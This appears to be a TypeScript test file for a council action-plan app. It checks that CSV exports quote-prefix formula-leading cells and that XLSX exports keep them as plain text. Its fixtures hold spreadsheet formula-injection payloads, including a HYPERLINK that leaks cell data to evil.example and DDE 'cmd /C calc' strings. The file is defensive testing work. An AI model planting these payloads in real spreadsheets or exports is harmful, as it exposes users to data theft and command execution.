import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { readPlanFile } from '../../src/import/read-plan-file';
import { exportPlan } from '../../src/services/export-plan';
import { storeImportedPlan } from '../../src/services/import-plan';
import { recordUpdate } from '../../src/services/record-update';
import { createRepositories, type Repositories } from '../../src/services/repositories';
import { createTestStore } from '../support/store';

const FIXTURE = path.join(__dirname, '../fixtures/000_77f21607da4671ce.txt');
const NOW = new Date('2026-11-05T09:00:00Z');

/** One cell starting with each character a spreadsheet takes for the start of a formula. */
const HOSTILE = {
  recommendation: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  proposedAction: "+1+cmd|' /C calc'!A0",
  timescale: "-2+3+cmd|' /C calc'!A0",
  budget: "@SUM(1+1)*cmd|' /C calc'!A0",
  revisedReason: '\t=1+1',
  statusReason: '\r=1+1',
};

describe('exports never hand a spreadsheet a formula', () => {
  let repos: Repositories;
  let dir: string;

  beforeAll(async () => {
    repos = createRepositories(await createTestStore());
    const plan = await readPlanFile(FIXTURE, { planId: 'members' });
    await storeImportedPlan(repos, plan, {
      sourceFile: 'plan.txt',
      now: NOW,
      timezone: 'Europe/London',
    });
    await recordUpdate(repos, {
      planId: 'members',
      ref: '4',
      author: {
        email: 'sam@council.example',
        name: '@Sam=1+1',
        posts: ['Head of Democratic Services'],
        roles: ['officer'],
      },
      request: { status: 'at-risk', note: '=HYPERLINK("http://evil.example/?n="&B2,"More")' },
      source: 'card',
      now: NOW,
      timezone: 'Europe/London',
    });
    const action = await repos.actions.get('members', '4');
    if (!action) throw new Error('action 4 missing');
    await repos.actions.update({ ...action, ...HOSTILE });
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'apb-csv-'));
  });

  it('prefixes every formula-leading CSV cell with a quote, and nothing else', async () => {
    const out = path.join(dir, 'plan.csv');
    await exportPlan(repos, 'members', { format: 'csv', out, now: NOW });
    const rows = parse(fs.readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.Ref === '4');
    expect(row).toBeDefined();
    const columns: Record<keyof typeof HOSTILE, string> = {
      recommendation: 'Recommendation',
      proposedAction: 'Proposed action',
      timescale: 'Timescale',
      budget: 'Budget cost',
      revisedReason: 'Reason for revised date',
      statusReason: 'Reason',
    };
    for (const [field, text] of Object.entries(HOSTILE)) {
      const cell = row?.[columns[field as keyof typeof HOSTILE]];
      expect(cell).toBe(`'${text}`);
      // Reading the quote back off gives exactly what was stored.
      expect(cell?.slice(1)).toBe(text);
    }
    expect(row?.['Last note']).toBe(`'=HYPERLINK("http://evil.example/?n="&B2,"More")`);
    expect(row?.['Updated by']).toBe("'@Sam=1+1");
    // Ordinary cells are untouched.
    const other = rows.find((r) => r.Ref === '1');
    expect(other?.Recommendation).not.toMatch(/^'/);

    const history = parse(fs.readFileSync(path.join(dir, 'plan-history.csv'), 'utf8'), {
      columns: true,
    }) as Record<string, string>[];
    const change = history.find((h) => h.Ref === '4');
    expect(change?.Who).toBe("'@Sam=1+1");
    expect(change?.Note).toBe(`'=HYPERLINK("http://evil.example/?n="&B2,"More")`);
  });

  it('keeps the same cells as plain typed text in the XLSX, unprefixed', async () => {
    const out = path.join(dir, 'plan.xlsx');
    await exportPlan(repos, 'members', { format: 'xlsx', out, now: NOW });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    const sheet = workbook.getWorksheet('Actions');
    const cells: ExcelJS.Cell[] = [];
    sheet?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    for (const stored of Object.values(HOSTILE)) {
      // XML reads a carriage return back as a line feed; the cell is text either way.
      const text = stored.replace(/\r/g, '\n');
      const cell = cells.find((c) => c.value === text);
      expect(cell?.value).toBe(text);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
    }
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });
});
